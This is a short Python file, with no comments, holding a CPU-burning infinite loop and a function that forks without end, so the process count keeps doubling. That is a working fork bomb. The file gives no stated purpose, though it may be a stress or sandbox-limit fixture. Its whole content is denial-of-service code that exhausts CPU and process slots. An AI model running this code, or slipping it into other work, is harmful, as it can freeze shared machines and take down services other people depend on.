import os
import threading
import time

def burn():
    while True:
        sum(range(10_000))

def doubler(n):
    while True:
        try:
            if os.fork() == 0:
                time.sleep(60)
        except OSError:
            return None
